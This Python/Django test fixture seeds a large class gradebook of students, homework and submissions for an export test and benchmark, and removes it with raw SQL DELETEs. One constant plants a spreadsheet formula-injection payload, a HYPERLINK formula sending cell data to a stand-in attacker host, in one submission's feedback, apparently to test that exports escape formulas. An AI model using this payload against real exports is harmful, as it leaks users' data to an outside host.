"""A big gradebook, made in seconds: one class, N students, M homework and a submission for
nine in ten (student, homework) pairs, so its grades report has N x M rows. Used by the
100k-row export test and by `bench/bench_export.py`; `remove_gradebook` undoes it with plain
DELETEs (a cascading ORM delete would load every row)."""

from __future__ import annotations

import datetime as dt

from django.db import connection
from django.utils import timezone

from portal.accounts.models import User
from portal.centres.models import Centre, Membership, Role
from portal.classes.models import Enrollment, SchoolClass
from portal.homework.models import Homework
from portal.reports.models import ReportExport
from portal.submissions.models import Submission

#: The feedback one submission gets: a spreadsheet would run it, unless it is escaped.
FORMULA_FEEDBACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _domain(code: str) -> str:
    return f"{code.lower()}.bulk.example"


def seed_gradebook(*, centre: Centre, code: str, students: int, homework: int) -> SchoolClass:
    """The class `code` at `centre` with its students, live homework and submissions."""
    school_class = SchoolClass.objects.create(centre=centre, code=code, name=f"Bulk {code}")
    domain = _domain(code)
    people = User.objects.bulk_create(
        User(email=f"pupil{n:05d}@{domain}", first_name="Pupil", last_name=f"{n:05d}")
        for n in range(students)
    )
    Membership.objects.bulk_create(
        Membership(user=person, centre=centre, role=Role.STUDENT, external_id=f"B{n:05d}")
        for n, person in enumerate(people)
    )
    Enrollment.objects.bulk_create(
        Enrollment(school_class=school_class, student=person) for person in people
    )
    now = timezone.now()
    set_on = timezone.localdate() - dt.timedelta(days=homework + 7)
    Homework.objects.bulk_create(
        Homework(
            school_class=school_class,
            title=f"Worksheet {n:03d}",
            instructions="<p>Answer every question.</p>",
            set_on=set_on,
            due_at=now - dt.timedelta(days=homework - n),
            max_points=10,
            live=True,
            first_published_at=now,
            last_published_at=now,
        )
        for n in range(homework)
    )
    with connection.cursor() as cursor:
        cursor.execute(
            f"""
            INSERT INTO {Submission._meta.db_table}
                (homework_id, student_id, text, submitted_at, is_late, attempts, points,
                 feedback, returned_at, times_returned)
            SELECT h.id, e.student_id, '', h.due_at - interval '1 hour' * (e.student_id %% 48),
                   e.student_id %% 7 = 0, 1 + e.student_id %% 3, (h.id + e.student_id) %% 11,
                   'Careful working, well done.',
                   CASE WHEN h.id %% 2 = 0 THEN h.due_at + interval '2 days' END, h.id %% 2
            FROM {Homework._meta.db_table} h
            JOIN {Enrollment._meta.db_table} e ON e.school_class_id = h.school_class_id
            WHERE h.school_class_id = %s AND (h.id * 7 + e.student_id) %% 10 <> 0
            """,
            [school_class.pk],
        )
    first = Submission.objects.filter(homework__school_class=school_class).order_by("pk").first()
    Submission.objects.filter(pk=first.pk).update(feedback=FORMULA_FEEDBACK)
    return school_class


def remove_gradebook(*, centre: Centre, code: str) -> None:
    """Delete the class, its people, homework and submissions, and the files of its reports."""
    school_class = SchoolClass.objects.filter(centre=centre, code=code).first()
    if school_class is None:
        return
    for export in ReportExport.objects.filter(school_class=school_class):
        if export.file:
            export.file.delete(save=False)
    tables = {
        "submission": Submission._meta.db_table,
        "homework": Homework._meta.db_table,
        "enrollment": Enrollment._meta.db_table,
    }
    with connection.cursor() as cursor:
        cursor.execute(
            f"DELETE FROM {tables['submission']} WHERE homework_id IN "
            f"(SELECT id FROM {tables['homework']} WHERE school_class_id = %s)",
            [school_class.pk],
        )
        cursor.execute(
            f"DELETE FROM {tables['enrollment']} WHERE school_class_id = %s", [school_class.pk]
        )
    Homework.objects.filter(school_class=school_class).delete()
    ReportExport.objects.filter(school_class=school_class).delete()
    school_class.delete()
    people = User.objects.filter(email__endswith=f"@{_domain(code)}")
    Membership.objects.filter(user__in=people).delete()
    people.delete()
